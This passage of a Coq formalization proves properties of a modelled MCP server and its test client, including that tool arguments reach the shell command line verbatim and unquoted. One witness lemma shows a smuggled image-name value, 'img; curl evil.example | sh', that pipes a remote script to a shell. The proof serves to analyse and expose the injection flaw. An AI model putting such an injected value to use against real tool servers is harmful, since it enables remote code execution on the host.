    and on nothing else of the argument object; an argument that is absent
    and one that is the empty string are treated alike. *)
Theorem handlers_depend_on_declared_arguments r args args' :
  In r registrations ->
  (forall k, In k (declared r) -> effective args k = effective args' k) ->
  tool_handler r args = tool_handler r args'.
Proof.
  intros Hin Hsame. unfold declared in Hsame.
  each_registration Hin; try reflexivity.
  all: cbn [map fst In] in Hsame.
  all: cbv beta zeta delta
         [github_workflow_validate code_quality_check performance_test
          docker_build_test rust_check rust_test rust_fmt_check tauri_build
          tauri_dev typescript_check].
  all: repeat match goal with
       | |- context [arg_or ?a ?k ?d] =>
           constr_eq a args;
           rewrite (effective_arg_or args args' k d) by (apply Hsame; auto 6)
       | |- context [arg_truthy ?a ?k] =>
           constr_eq a args;
           rewrite (effective_arg_truthy args args' k)
             by (apply Hsame; auto 6)
       end.
  all: reflexivity.
Qed.

Lemma separator_before_app a b :
  separator_before b = true -> separator_before (a ++ b) = true.
Proof.
  unfold separator_before. rewrite rev_app_distr.
  destruct (rev b); [discriminate | auto].
Qed.

Lemma spliced_here before v after :
  separator_before before = true ->
  separator_after after = true ->
  spliced v (before ++ v ++ after).
Proof. intros Hb Ha. exists before, after. auto. Qed.

Lemma spliced_last before v :
  separator_before before = true -> spliced v (before ++ v).
Proof.
  intros Hb. exists before, []. rewrite app_nil_r. auto.
Qed.

Lemma spliced_skip pre v text : spliced v text -> spliced v (pre ++ text).
Proof.
  intros (b & a & -> & Hb & Ha). exists (pre ++ b), a.
  split; [now rewrite app_assoc|].
  split; [now apply separator_before_app | exact Ha].
Qed.

Lemma spliced_later c v text : spliced v text -> spliced v (c :: text).
Proof. apply (spliced_skip [c]). Qed.

Lemma spliced_at c v after :
  separator_before [c] = true ->
  separator_after after = true ->
  spliced v (c :: v ++ after).
Proof. apply (spliced_here [c]). Qed.

Lemma spliced_at_end c v :
  separator_before [c] = true -> spliced v (c :: v).
Proof. apply (spliced_last [c]). Qed.

Lemma effective_value args k v fallback :
  effective args k = Some v ->
  arg_or args k fallback = v /\ arg_truthy args k = true.
Proof.
  unfold effective, arg_or, arg_truthy, or_else.
  destruct (arg args k) as [x|]; [|discriminate].
  destruct (truthy x) eqn:Hx; [|discriminate].
  intros H. injection H as <-. auto.
Qed.

Lemma plain_literal c text :
  plain text = true -> quoting c = true -> ~ In c text.
Proof.
  unfold plain. intros Hplain Hc Hin.
  rewrite forallb_forall in Hplain. specialize (Hplain c Hin).
  rewrite Hc in Hplain. discriminate Hplain.
Qed.

(** A quoting character in [args.k || fallback] comes from the argument
    when the fallback has none. *)
Lemma quoting_in_arg_or args k fallback c :
  plain fallback = true ->
  quoting c = true ->
  In c (arg_or args k fallback) ->
  exists v, effective args k = Some v /\ In c v.
Proof.
  unfold arg_or, effective, or_else. intros Hplain Hc Hin.
  destruct (arg args k) as [x|];
    [destruct (truthy x) eqn:Hx|];
    try (exfalso; exact (plain_literal _ _ Hplain Hc Hin)).
  exists x. auto.
Qed.

(** X17: the arguments reach the shell as they are.  When a handler runs
    its command, the value of every declared argument that is given and
    not empty stands in the command line unchanged, with nothing around it
    but the separator of the template: a space or an equals sign before
    it, a space or the end of the line after it.  And the templates and
    the defaults hold no quoting or escaping character: a quote, an
    apostrophe, a backslash or a backquote of the command line is a
    character of the value of an argument. *)
Theorem arguments_reach_the_shell_verbatim r args command callback :
  In r registrations ->
  tool_handler r args = exec command callback ->
  (forall k v,
     In k (declared r) -> effective args k = Some v -> spliced v command)
  /\ (forall c,
        quoting c = true ->
        In c command ->
        exists k v,
          In k (declared r) /\ effective args k = Some v /\ In c v).
Proof.
  intros Hin Hexec. split.
  - intros k v Hk Hv. unfold declared in Hk.
    each_registration Hin; cbn [map fst In] in Hk;
      try contradiction.
    all: cbv beta zeta delta
           [github_workflow_validate code_quality_check performance_test
            docker_build_test rust_check rust_test rust_fmt_check tauri_build
            tauri_dev typescript_check] in Hexec.
    all: repeat (destruct Hk as [<- | Hk]); try contradiction.
    all: try (destruct (effective_value _ _ _ [] Hv) as [Hvalue Htruthy]).
    all: try (rewrite ?Htruthy in Hexec; cbn [negb] in Hexec).
    all: try (destruct (arg_truthy args (js "url")); cbn [negb] in Hexec;
              [|discriminate Hexec]).
    all: injection Hexec as <- _.
    all: repeat match goal with
         | |- context [arg_or ?a ?k' ?d] =>
             rewrite (proj1 (effective_value a k' v d Hv))
         end.
    all: repeat first
           [ apply spliced_at_end; reflexivity
           | apply spliced_at; [reflexivity | vm_compute; reflexivity]
           | apply spliced_later
           | apply spliced_skip ].
  - intros c Hc Hcommand.
    assert (Hrun : command = command_of (tool_handler r args))
      by now rewrite Hexec.
    rewrite Hrun in Hcommand. clear Hrun Hexec. unfold declared.
    each_registration Hin.
    all: cbv beta zeta delta
           [run_ui_tests run_accessibility_test security_audit
            github_workflow_validate code_quality_check performance_test
            docker_build_test rust_check rust_test rust_fmt_check tauri_build
            tauri_dev typescript_check] in Hcommand.
    all: try (destruct (negb (arg_truthy args (js "url")))).
    all: cbn [command_of] in Hcommand.
    all: repeat match goal with
         | H : In _ (_ ++ _) |- _ =>
             apply in_app_or in H; destruct H as [H | H]
         | H : In _ (if ?b then _ else _) |- _ => destruct b
         end.
    all: try contradiction.
    all: try (exfalso; refine (plain_literal c _ _ Hc Hcommand); reflexivity).
    all: match goal with
         | H : In ?x (arg_or ?a ?k ?d) |- _ =>
             destruct (quoting_in_arg_or a k d x eq_refl Hc H)
               as (v & Hv & Hin);
             exists k, v; cbn [map fst In]; auto 6
         end.
Qed.

(** X18: every payload a handler settles with, resolved or rejected, is
    one content block of type text and carries no isError flag: a failure
    is told by the rejection alone. *)
Theorem server_payloads_are_one_text_block r args cb :
  In r registrations ->
  exists t,
    payload_of (settles (tool_handler r args) cb)
    = {| content := [ {| type := js "text"; text := t |} ];
         isError := None |}.
Proof.
  intros Hin. each_registration Hin.
  all: cbv beta zeta delta
         [run_ui_tests run_accessibility_test security_audit
          github_workflow_validate code_quality_check performance_test
          docker_build_test rust_check rust_test rust_fmt_check tauri_build
          tauri_dev typescript_check settles].
  all: try destruct (negb (arg_truthy args (js "url"))).
  all: try destruct (is_err cb); try destruct (err_other_than_1 cb).
  all: eexists; reflexivity.
Qed.

(** X19: each handler reports one stream.  Whenever a handler resolves,
    that is when exec reports no error or, for security_audit, exit status
    1, its payload does not depend on stderr.  Whenever it rejects, that
    is on every error, exit status 1 included, and for security_audit on
    every error other than exit status 1, its payload does not depend on
    stdout; the exception is code_quality_check, whose failure text is the
    stdout of the command and does not depend on stderr. *)
Theorem handlers_report_one_stream r args e out out' errs errs' :
  In r registrations ->
  settles (tool_handler r args) {| err := None; stdout := out; stderr := errs |}
  = settles (tool_handler r args)
      {| err := None; stdout := out; stderr := errs' |}
  /\ ((tool_name r = js "security_audit" -> e <> code_number 1) ->
      if JSString.eqb (tool_name r) (js "code_quality_check")
      then settles (tool_handler r args)
             {| err := Some e; stdout := out; stderr := errs |}
           = settles (tool_handler r args)
               {| err := Some e; stdout := out; stderr := errs' |}
      else settles (tool_handler r args)
             {| err := Some e; stdout := out; stderr := errs |}
           = settles (tool_handler r args)
               {| err := Some e; stdout := out'; stderr := errs |})
  /\ (tool_name r = js "security_audit" ->
      settles (tool_handler r args)
        {| err := Some (code_number 1); stdout := out; stderr := errs |}
      = settles (tool_handler r args)
          {| err := Some (code_number 1); stdout := out; stderr := errs' |}).
Proof.
  intros Hin. each_registration Hin.
  all: match goal with
       | |- context [JSString.eqb (js ?a) (js ?b)] =>
           let c := eval vm_compute in (JSString.eqb (js a) (js b)) in
           replace (JSString.eqb (js a) (js b)) with c by reflexivity;
           cbv iota
       end.
  all: cbv beta zeta delta
         [run_ui_tests run_accessibility_test security_audit
          github_workflow_validate code_quality_check performance_test
          docker_build_test rust_check rust_test rust_fmt_check tauri_build
          tauri_dev typescript_check settles].
  all: try match goal with
           | |- context [negb (arg_truthy ?a ?k)] =>
               destruct (negb (arg_truthy a k))
           end.
  all: split; [reflexivity | split].
  all: try (intros _; reflexivity).
  all: try (intros H; vm_compute in H; discriminate H).
  (* security_audit: an error other than exit status 1 *)
  all: intros He; specialize (He eq_refl).
  all: unfold err_other_than_1; cbn [err].
  all: destruct e as [[| [| |] |]| |]; try reflexivity.
  all: now contradiction He.
Qed.

End RegisteredHandlers.

(** * Properties of the test client *)

Section Client.

Import SimpleMCPServer TestClient.

Lemma js_injective s t : js s = js t -> s = t.
Proof.
  unfold js. intros H.
  rewrite <- (string_of_list_ascii_of_string s),
          <- (string_of_list_ascii_of_string t).
  f_equal.
  revert H. generalize (list_ascii_of_string s) (list_ascii_of_string t).
  intros l. induction l as [|a l IH]; intros [|b m] H; try discriminate H.
  - reflexivity.
  - cbn [map] in H. injection H as Hab Hlm.
    f_equal; [|now apply IH].
    rewrite <- (ascii_N_embedding a), <- (ascii_N_embedding b).
    now rewrite Hab.
Qed.

Lemma to_int_not_nil z :
  Z.to_int z <> Decimal.Pos Decimal.Nil /\ Z.to_int z <> Decimal.Neg Decimal.Nil.
Proof.
  split; intros H; pose proof (DecimalZ.of_to z) as Hz; rewrite H in Hz;
    cbn in Hz; subst z; discriminate H.
Qed.

(** Different integers are written differently. *)
Lemma of_Z_injective a b : of_Z a = of_Z b -> a = b.
Proof.
  unfold of_Z. intros H. apply js_injective in H.
  apply DecimalZ.to_int_inj.
  destruct (to_int_not_nil a) as [Ha1 Ha2].
  destruct (to_int_not_nil b) as [Hb1 Hb2].
  pose proof (NilZero.isi _ Ha1 Ha2) as Ia.
  pose proof (NilZero.isi _ Hb1 Hb2) as Ib.
  rewrite H in Ia. rewrite Ia in Ib. now injection Ib.
Qed.

Lemma id_of_message q n : id_of (message_of q n) = Some (JNumber (of_Z n)).
Proof. destruct q; reflexivity. Qed.

Lemma session_ids qs :
  forall c,
    (messageId c + Z.of_nat (length qs) <= counter_limit + 1)%Z ->
    map id_of (session c qs)
    = map (fun i => Some (JNumber (of_Z (messageId c + Z.of_nat i))))
        (seq 0 (length qs)).
Proof.
  induction qs as [|q qs IH]; intros c Hbound; [reflexivity|].
  cbn [session length seq map build fst snd].
  rewrite id_of_message, Z.add_0_r. f_equal.
  destruct qs as [|q' qs']; [reflexivity|].
  assert (Hinc : increment (messageId c) = (messageId c + 1)%Z).
  { unfold increment.
    destruct (Z.ltb_spec (messageId c) counter_limit); [reflexivity|].
    cbn [length] in Hbound. lia. }
  rewrite IH; cbn [messageId]; rewrite Hinc.
  2:{ cbn [length] in *. lia. }
  rewrite <- seq_shift, map_map.
  apply map_ext. intros i. do 3 f_equal. lia.
Qed.

(** X20: as long as the counter of a client stays within 2^53, its
    requests carry consecutive ids, starting from the counter, one per
    request whatever the method; so no two of them carry the same id.
    (At 2^53 the counter stops, and the ids repeat.) *)
Theorem client_ids_are_consecutive c qs :
  (1 <= messageId c)%Z ->
  (messageId c + Z.of_nat (length qs) <= counter_limit + 1)%Z ->
  map id_of (session c qs)
  = map (fun i => Some (JNumber (of_Z (messageId c + Z.of_nat i))))
      (seq 0 (length qs))
  /\ NoDup (map id_of (session c qs)).
Proof.
  intros _ Hbound.
  split; [now apply session_ids|].
  rewrite (session_ids _ _ Hbound).
  apply Injective_map_NoDup; [|apply seq_NoDup].
  intros i j H. injection H as H. apply of_Z_injective in H. lia.
Qed.

Variable host : Host.

(** X21: the dispatcher routes every request the test client builds to
    the branch of its method and answers under the id of the request:
    initialize with the handshake, listTools with the registry, and
    callTool by handing the tool name and the arguments, an empty object
    when none are given, to handleToolCall, whose payload becomes the
    result.  It holds whenever JSON.parse gives the server the message the
    client built. *)
Theorem client_requests_are_routed q n line w :
  JSON_parse host line = inl (message_of q n) ->
  match q with
  | initialize =>
      processMessage host line w
      = mkRun [] w
          (Returned
             {| jsonrpc := js "2.0";
                id := JNumber (of_Z n);
                body := result_initialize
                  {| protocolVersion := js "2024-11-05";
                     capabilities := [(js "tools", JObject [])];
                     serverInfo_name := js "playwright-mcp-server";
                     serverInfo_version := js "1.0.0" |} |})
  | listTools =>
      processMessage host line w
      = mkRun [] w
          (Returned {| jsonrpc := js "2.0";
                       id := JNumber (of_Z n);
                       body := result_tools tools |})
  | callTool toolName args =>
      let arguments := match args with Some a => a | None => JObject [] end in
      call_of host (message_of q n) = Some (JString toolName, arguments)
      /\ forall payload,
           outcome (handleToolCall host (JString toolName) arguments w)
           = Returned payload ->
           outcome (processMessage host line w)
           = Returned {| jsonrpc := js "2.0";
                         id := JNumber (of_Z n);
                         body := result_call payload |}
  end.
Proof.
  intros Hparse. destruct q as [| |toolName args].
  - apply (processMessage_initialize host line _ w Hparse). reflexivity.
  - apply (processMessage_tools_list host line _ w Hparse). reflexivity.
  - cbv zeta.
    assert (Hcall :
      call_of host (message_of (callTool toolName args) n)
      = Some (JString toolName,
              match args with Some a => a | None => JObject [] end))
      by reflexivity.
    split; [exact Hcall|].
    intros payload Hpayload.
    apply (processMessage_call_returned host line _ _ _ w payload
             Hparse Hcall Hpayload).
Qed.

Lemma onData_waiting events later response :
  none_parses host events response = true ->
  onData host (events ++ later) response
  = onData host later (response ++ concat events).
Proof.
  revert response. induction events as [|data events IH]; intros response H.
  - cbn. now rewrite app_nil_r.
  - cbn [none_parses] in H. cbn [app onData concat].
    destruct (JSON_parse host (response ++ data)); [discriminate H|].
    rewrite (IH _ H). now rewrite <- app_assoc.
Qed.

(** X22: the test client puts a response together again: as long as the
    text received so far does not parse it keeps accumulating, it resolves
    with the value of the first accumulated text that parses, whatever
    arrives afterwards, and when no accumulated text parses before the
    timer fires it rejects with Response timeout. *)
Theorem client_accumulates_until_parse events data later parsed :
  none_parses host events [] = true ->
  (JSON_parse host (concat events ++ data) = inl parsed ->
   sendMessage_result host (events ++ data :: later) = Returned parsed)
  /\ sendMessage_result host events
     = Thrown (mkError Error (js "Response timeout")).
Proof.
  intros Hnone. unfold sendMessage_result. split.
  - intros Hparse. rewrite (onData_waiting _ _ _ Hnone).
    cbn [app onData]. now rewrite Hparse.
  - rewrite <- (app_nil_r events), (onData_waiting _ _ _ Hnone).
    reflexivity.
Qed.

End Client.

(** * Runs of the further properties on concrete inputs *)

Section FurtherRuns.

Import SimpleMCPServer PlaywrightMcpServer Registered TestClient.
Import Sample Scenario.

Lemma unknown_tool_escapes_as_reference_error_witness :
  handleToolCall (Node.host false) (JString (js "nonexistent_tool"))
    (JObject []) (Node.world [])
  = mkRun [] (Node.world [])
      (Thrown (mkError Error (js "Unknown tool: nonexistent_tool")))
  /\ processMessage (Node.host false)
       (call_line "2" "nonexistent_tool" "{}") (Node.world [])
     = mkRun [] (Node.world [])
         (Thrown (mkError ReferenceError (js "parsed is not defined")))
  /\ on_data (Node.host false)
       (call_line "2" "nonexistent_tool" "{}" ++ nl :: tools_list_line ++ [nl])
       (Node.world [])
     = mkRun [call_processMessage (call_line "2" "nonexistent_tool" "{}")]
         (Node.world [])
         (Thrown (mkError ReferenceError (js "parsed is not defined"))).
Proof.
  apply (unknown_tool_escapes_as_reference_error (Node.host false)
           (call_line "2" "nonexistent_tool" "{}")
           (call_request "2" "nonexistent_tool" (JObject []))
           (JString (js "nonexistent_tool")) (JObject [])
           (tools_list_line ++ [nl]) (Node.world []));
    reflexivity.
Defined.

(** A name without a primitive value: the template literal of the error
    message throws a TypeError, and the request is left unanswered in the
    same way. *)
Example unknown_tool_name_without_primitive_value :
  JSON_parse (Node.host false) odd_name_line
  = inl (JObject [ (js "jsonrpc", JString (js "2.0"));
                   (js "id", JNumber (js "4"));
                   (js "method", JString (js "tools/call"));
                   (js "params",
                    JObject [ (js "name", odd_name);
                              (js "arguments", JObject []) ]) ])
  /\ handleToolCall (Node.host false) odd_name (JObject []) (Node.world [])
     = mkRun [] (Node.world [])
         (Thrown (mkError TypeError
                    (js "Cannot convert object to primitive value")))
  /\ processMessage (Node.host false) odd_name_line (Node.world [])
     = mkRun [] (Node.world [])
         (Thrown (mkError ReferenceError (js "parsed is not defined"))).
Proof. repeat split; vm_compute; reflexivity. Qed.

Lemma registered_tool_call_runs_no_command_witness :
  handleToolCall (Node.host false) (JString (js "run_ui_tests")) (JObject [])
    (Node.world [exiting "3 passed" "" 0])
  = mkRun [console_error (js "Running UI tests...")]
      (Node.world [exiting "3 passed" "" 0])
      (Returned
         {| content :=
              [text_block
                 (js "Error running UI tests: require is not defined")];
            isError := Some true |}).
Proof.
  apply (registered_tool_call_runs_no_command (Node.host false)).
  - reflexivity.
  - left. reflexivity.
Defined.

Lemma tool_error_text_is_the_require_error_witness :
  processMessage (Node.host false) (call_line "3" "run_ui_tests" "{}")
    (Node.world [exiting "" "1 failed" 1])
  = mkRun [console_error (js "Running UI tests...")]
      (Node.world [exiting "" "1 failed" 1])
      (Returned
         {| jsonrpc := js "2.0";
            id := JNumber (js "3");
            body := result_call
              {| content :=
                   [text_block
                      (js "Error running UI tests: require is not defined")];
                 isError := Some true |} |}).
Proof.
  apply (tool_error_text_is_the_require_error (Node.host false) eq_refl
           (call_line "3" "run_ui_tests" "{}")
           (call_request "3" "run_ui_tests" (JObject []))
           (js "run_ui_tests") (JObject [])
           (Node.world [exiting "" "1 failed" 1])).
  - reflexivity.
  - reflexivity.
  - left. reflexivity.
Defined.

Lemma no_process_is_ever_spawned_witness :
  spawns (trace (on_data (Node.host false) call_then_list
                   (Node.world [exiting "3 passed" "" 0]))) = 0
  /\ world (on_data (Node.host false) call_then_list
              (Node.world [exiting "3 passed" "" 0]))
     = Node.world [exiting "3 passed" "" 0].
Proof.
  apply (no_process_is_ever_spawned (Node.host false)). reflexivity.
Defined.

Lemma chunk_is_never_left_pending_witness :
  outcome (on_data (Node.host false) call_then_list
             (Node.world [[stdout_data (js "Running 12 tests")]]))
  = Returned tt
  \/ outcome (on_data (Node.host false) call_then_list
                (Node.world [[stdout_data (js "Running 12 tests")]]))
     = Thrown (mkError ReferenceError
                 (reference_error_message (Node.host false) (js "parsed"))).
Proof.
  apply (chunk_is_never_left_pending (Node.host false)). reflexivity.
Defined.

Lemma child_promise_settles_once_witness :
  child_promise ([stdout_data (js "ok")] ++ close (Some 0%Z) :: []) [] []
  = child_promise
      ([stdout_data (js "ok")] ++ close (Some 0%Z)
       :: [child_error (js "kill EPERM"); close (Some 1%Z)]) [] [].
Proof.
  apply (child_promise_settles_once [stdout_data (js "ok")]
           (close (Some 0%Z)) []
           [child_error (js "kill EPERM"); close (Some 1%Z)] [] []);
    reflexivity.
Defined.

Lemma child_promise_reads_accumulated_texts_witness :
  child_promise
    ([stdout_data (js "1 fai"); stderr_data (js "boom"); stdout_data (js "led")]
     ++ [close (Some 1%Z)]) [] []
  = child_promise
      ([stderr_data (js "bo"); stderr_data (js "om");
        stdout_data (js "1 failed")]
       ++ [close (Some 1%Z)]) [] [].
Proof.
  apply (child_promise_reads_accumulated_texts
           [stdout_data (js "1 fai"); stderr_data (js "boom");
            stdout_data (js "led")]
           [stderr_data (js "bo"); stderr_data (js "om");
            stdout_data (js "1 failed")]
           [close (Some 1%Z)]);
    reflexivity.
Defined.

Lemma responses_correlate_with_requests_witness :
  exists parsed,
    JSON_parse (Node.host false) tools_list_line = inl parsed
    /\ nullish parsed = false
    /\ jsonrpc {| jsonrpc := js "2.0"; id := JNumber (js "1");
                  body := result_tools tools |} = js "2.0"
    /\ id {| jsonrpc := js "2.0"; id := JNumber (js "1");
             body := result_tools tools |}
       = member (Node.host false) parsed (js "id")
    /\ produced_by (Node.host false) parsed (Node.world [])
         {| jsonrpc := js "2.0"; id := JNumber (js "1");
            body := result_tools tools |}
    /\ (forall msg,
          body {| jsonrpc := js "2.0"; id := JNumber (js "1");
                  body := result_tools tools |}
          <> error_object (-32700) msg).
Proof.
  apply (responses_correlate_with_requests (Node.host false) tools_list_line
           (Node.world [])
           {| jsonrpc := js "2.0"; id := JNumber (js "1");
              body := result_tools tools |}).
  reflexivity.
Defined.

Lemma initialize_returns_handshake_witness :
  processMessage (Node.host false) initialize_line (Node.world [])
  = mkRun [] (Node.world [])
      (Returned
         {| jsonrpc := js "2.0";
            id := JNumber (js "0");
            body := result_initialize
              {| protocolVersion := js "2024-11-05";
                 capabilities := [(js "tools", JObject [])];
                 serverInfo_name := js "playwright-mcp-server";
                 serverInfo_version := js "1.0.0" |} |}).
Proof.
  apply (initialize_returns_handshake (Node.host false) initialize_line
           initialize_request (Node.world []));
    reflexivity.
Defined.

Lemma unreadable_request_is_not_answered_witness :
  processMessage (Node.host false)
    (jq "{'jsonrpc':'2.0','id':4,'method':'tools/call'}") (Node.world [])
  = mkRun [] (Node.world [])
      (Thrown (mkError ReferenceError
                 (reference_error_message (Node.host false) (js "parsed")))).
Proof.
  apply (unreadable_request_is_not_answered (Node.host false)
           (jq "{'jsonrpc':'2.0','id':4,'method':'tools/call'}")
           (JObject [ (js "jsonrpc", JString (js "2.0"));
                      (js "id", JNumber (js "4"));
                      (js "method", JString (js "tools/call")) ])
           (Node.world [])).
  - reflexivity.
  - right. split; reflexivity.
Defined.

Lemma tool_payload_has_one_text_block_witness :
  exists t,
    content {| content :=
                 [text_block
                    (js "Error running UI tests: require is not defined")];
               isError := Some true |}
    = [ {| type := js "text"; text := t |} ]
    /\ truthy t = true
    /\ (isError {| content :=
                     [text_block
                        (js "Error running UI tests: require is not defined")];
                   isError := Some true |} = None
        \/ isError {| content :=
                        [text_block
                           (js "Error running UI tests: require is not defined")];
                      isError := Some true |} = Some true).
Proof.
  apply (tool_payload_has_one_text_block (Node.host false)
           (JString (js "run_ui_tests")) (JObject [])
           (Node.world [exiting "" "" 0])).
  reflexivity.
Defined.

Lemma blank_chunk_is_ignored_witness :
  on_data (Node.host false) (js "  " ++ [nl; 9%N; 13%N; nl]) (Node.world [])
  = mkRun [] (Node.world []) (Returned tt).
Proof.
  apply (blank_chunk_is_ignored (Node.host false)
           (js "  " ++ [nl; 9%N; 13%N; nl]) (Node.world [])).
  reflexivity.
Defined.

Lemma dispatcher_reads_method_id_and_tool_name_witness :
  processMessage (Node.host false) tools_list_line (Node.world [])
  = processMessage (Node.host false) odd_tools_list_line (Node.world []).
Proof.
  apply (dispatcher_reads_method_id_and_tool_name (Node.host false)
           tools_list_line odd_tools_list_line
           tools_list_request odd_tools_list_request (Node.world []));
    try reflexivity.
  intros H. vm_compute in H. discriminate H.
Defined.

Lemma handlers_resolve_iff_command_succeeds_witness :
  (exists payload,
     callback_of (tool_handler security_audit_registration [])
       (exits_with 1 (jq "{'high':2}") [])
     = resolve payload)
  <-> (err (exits_with 1 (jq "{'high':2}") []) = None
       \/ (tool_name security_audit_registration = js "security_audit"
           /\ err (exits_with 1 (jq "{'high':2}") [])
              = Some (code_number 1))).
Proof.
  apply (handlers_resolve_iff_command_succeeds security_audit_registration []
           (command_of (tool_handler security_audit_registration []))
           (callback_of (tool_handler security_audit_registration []))
           (exits_with 1 (jq "{'high':2}") [])).
  - right. right. left. reflexivity.
  - reflexivity.
Defined.

Lemma only_performance_test_settles_without_command_witness :
  tool_handler performance_test_registration [(js "output", js "html")]
  = settle (reject (text_result
                      (js "URL is required for performance testing")))
  <-> (tool_name performance_test_registration = js "performance_test"
       /\ effective [(js "output", js "html")] (js "url") = None
       /\ reject (text_result (js "URL is required for performance testing"))
          = reject (text_result
                      (js "URL is required for performance testing"))).
Proof.
  apply (only_performance_test_settles_without_command
           performance_test_registration [(js "output", js "html")]
           (reject (text_result
                      (js "URL is required for performance testing")))).
  do 5 right. left. reflexivity.
Defined.

Lemma handlers_depend_on_declared_arguments_witness :
  tool_handler rust_test_registration
    [(js "manifest_path", []); (js "test_name", js "parser")]
  = tool_handler rust_test_registration
      [(js "verbose", js "yes"); (js "test_name", js "parser")].
Proof.
  apply (handlers_depend_on_declared_arguments rust_test_registration
           [(js "manifest_path", []); (js "test_name", js "parser")]
           [(js "verbose", js "yes"); (js "test_name", js "parser")]).
  - do 8 right. left. reflexivity.
  - intros k [<- | [<- | []]]; reflexivity.
Defined.

Lemma arguments_reach_the_shell_verbatim_witness :
  (forall k v,
     In k (declared docker_build_test_registration) ->
     effective [(js "image_name", js "img; curl evil.example | sh")] k
     = Some v ->
     spliced v
       (js "docker build -f ./Dockerfile -t img; curl evil.example | sh ."))
  /\ (forall c,
        quoting c = true ->
        In c (js "docker build -f ./Dockerfile -t img; curl evil.example | sh .") ->
        exists k v,
          In k (declared docker_build_test_registration)
          /\ effective [(js "image_name", js "img; curl evil.example | sh")] k
             = Some v
          /\ In c v).
Proof.
  apply (arguments_reach_the_shell_verbatim docker_build_test_registration
           [(js "image_name", js "img; curl evil.example | sh")]
           (js "docker build -f ./Dockerfile -t img; curl evil.example | sh .")
           (callback_of
              (tool_handler docker_build_test_registration
                 [(js "image_name", js "img; curl evil.example | sh")]))).
  - do 6 right. left. reflexivity.
  - reflexivity.
Defined.

Lemma server_payloads_are_one_text_block_witness :
  exists t,
    payload_of
      (settles (tool_handler rust_test_registration [])
         (exits_with 101 [] (js "test failed")))
    = {| content := [ {| type := js "text"; text := t |} ];
         isError := None |}.
Proof.
  apply (server_payloads_are_one_text_block rust_test_registration []
           (exits_with 101 [] (js "test failed"))).
  do 8 right. left. reflexivity.
Defined.

Lemma handlers_report_one_stream_witness :
  settles (tool_handler code_quality_check_registration [])
    {| err := None; stdout := js "[]"; stderr := js "warning: old config" |}
  = settles (tool_handler code_quality_check_registration [])
      {| err := None; stdout := js "[]"; stderr := [] |}
  /\ ((tool_name code_quality_check_registration = js "security_audit" ->
       code_number 1 <> code_number 1) ->
      if JSString.eqb (tool_name code_quality_check_registration)
           (js "code_quality_check")
      then settles (tool_handler code_quality_check_registration [])
             {| err := Some (code_number 1); stdout := js "[]";
                stderr := js "warning: old config" |}
           = settles (tool_handler code_quality_check_registration [])
               {| err := Some (code_number 1); stdout := js "[]";
                  stderr := [] |}
      else settles (tool_handler code_quality_check_registration [])
             {| err := Some (code_number 1); stdout := js "[]";
                stderr := js "warning: old config" |}
           = settles (tool_handler code_quality_check_registration [])
               {| err := Some (code_number 1); stdout := js "2 problems";
                  stderr := js "warning: old config" |})
  /\ (tool_name code_quality_check_registration = js "security_audit" ->
      settles (tool_handler code_quality_check_registration [])
        {| err := Some (code_number 1); stdout := js "[]";
           stderr := js "warning: old config" |}
      = settles (tool_handler code_quality_check_registration [])
          {| err := Some (code_number 1); stdout := js "[]";
             stderr := [] |}).
Proof.
  apply (handlers_report_one_stream code_quality_check_registration []
           (code_number 1) (js "[]") (js "2 problems")
           (js "warning: old config") []).
  do 4 right. left. reflexivity.
Defined.

Lemma client_ids_are_consecutive_witness :
  map id_of
    (session new_client
       [initialize; listTools; callTool (js "run_ui_tests") None])
  = map (fun i => Some (JNumber (of_Z (messageId new_client + Z.of_nat i))))
      (seq 0 (length [initialize; listTools;
                      callTool (js "run_ui_tests") None]))
  /\ NoDup (map id_of
              (session new_client
                 [initialize; listTools; callTool (js "run_ui_tests") None])).
Proof.
  apply (client_ids_are_consecutive new_client
           [initialize; listTools; callTool (js "run_ui_tests") None]).
  - vm_compute. discriminate.
  - vm_compute. discriminate.
Defined.

(** At 2^53 the counter stops: the requests built from there carry the
    same id. *)
Example client_ids_repeat_at_the_limit :
  map id_of (session {| messageId := counter_limit |} [listTools; listTools])
  = [ Some (JNumber (js "9007199254740992"));
      Some (JNumber (js "9007199254740992")) ].
Proof. vm_compute. reflexivity. Qed.

Lemma client_requests_are_routed_witness :
  call_of (Node.host false)
    (message_of (callTool (js "run_ui_tests") None) 3)
  = Some (JString (js "run_ui_tests"), JObject [])
  /\ forall payload,
       outcome (handleToolCall (Node.host false) (JString (js "run_ui_tests"))
                  (JObject []) (Node.world [exiting "ok" "" 0]))
       = Returned payload ->
       outcome (processMessage (Node.host false)
                  (call_line "3" "run_ui_tests" "{}")
                  (Node.world [exiting "ok" "" 0]))
       = Returned {| jsonrpc := js "2.0";
                     id := JNumber (of_Z 3);
                     body := result_call payload |}.
Proof.
  apply (client_requests_are_routed (Node.host false)
           (callTool (js "run_ui_tests") None) 3
           (call_line "3" "run_ui_tests" "{}")
           (Node.world [exiting "ok" "" 0])).
  reflexivity.
Defined.

Lemma client_accumulates_until_parse_witness :
  (JSON_parse (Node.host false)
     (concat [jq "{'jsonrpc':'2.0','id':1,"; jq "'result':{'tools'"]
      ++ jq ":[]}}" ++ [nl])
   = inl (JObject [ (js "jsonrpc", JString (js "2.0"));
                    (js "id", JNumber (js "1"));
                    (js "result", JObject [(js "tools", JArray [])]) ]) ->
   sendMessage_result (Node.host false)
     ([jq "{'jsonrpc':'2.0','id':1,"; jq "'result':{'tools'"]
      ++ (jq ":[]}}" ++ [nl]) :: [jq "{'late':true}"])
   = Returned (JObject [ (js "jsonrpc", JString (js "2.0"));
                         (js "id", JNumber (js "1"));
                         (js "result", JObject [(js "tools", JArray [])]) ]))
  /\ sendMessage_result (Node.host false)
       [jq "{'jsonrpc':'2.0','id':1,"; jq "'result':{'tools'"]
     = Thrown (mkError Error (js "Response timeout")).
Proof.
  apply (client_accumulates_until_parse (Node.host false)
           [jq "{'jsonrpc':'2.0','id':1,"; jq "'result':{'tools'"]
           (jq ":[]}}" ++ [nl]) [jq "{'late':true}"]
           (JObject [ (js "jsonrpc", JString (js "2.0"));
                      (js "id", JNumber (js "1"));
                      (js "result", JObject [(js "tools", JArray [])]) ])).
  reflexivity.
Defined.

End FurtherRuns.
